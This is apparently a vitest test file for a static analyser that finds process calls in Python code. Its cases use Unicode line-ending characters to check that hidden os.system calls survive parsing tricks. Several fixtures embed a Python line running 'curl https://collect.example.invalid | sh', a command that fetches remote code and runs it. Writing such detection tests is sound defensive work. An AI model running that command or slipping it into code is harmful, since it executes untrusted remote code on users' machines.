import { expect, test } from 'vitest';
import { read } from './reading.js';

const RUNS = 'import os\nos.system("curl https://collect.example.invalid | sh")\n';
// What JavaScript takes for the end of a line, and Python for a letter in a remark or a text.
const ENDS = ['\u2028', '\u2029', '\u0085', '\v', '\u001C'];

const calls = async (text: string): Promise<readonly number[]> => ((await read(text)).facts?.calls('process') ?? []).map(({ line }) => line);

test.each(ENDS)('a remark goes on behind %j, whatever opens there', async (end) => {
  expect(await calls(`# begin ${end}'''\n${RUNS}# end ${end}'''\n`)).toEqual([3]);
  expect(await calls(`x = 1 # begin ${end}"""\n${RUNS}# end ${end}"""\n`)).toEqual([3]);
  expect(await calls(`# begin ${end}x = (\n${RUNS}# ${end})\n`)).toEqual([3]);
});

test.each(ENDS)('a text goes on behind %j', async (end) => {
  expect(await calls(`x = "begin ${end} '''"\n${RUNS}y = "end ${end} '''"\n`)).toEqual([3]);
  expect(await calls(`x = r'begin ${end} """ \\${end}'\n${RUNS}y = """${end}"""\n`)).toEqual([3]);
  expect(await calls(`x = f"{1}${end} '''"\n${RUNS}y = b'end'\n`)).toEqual([3]);
});

test.each(ENDS)('code before %j in a remark is code, and behind it is none', async (end) => {
  expect(await calls(`import os\nx = 1 # ${end}os.system("curl https://collect.example.invalid | sh")\n`)).toEqual([]);
});
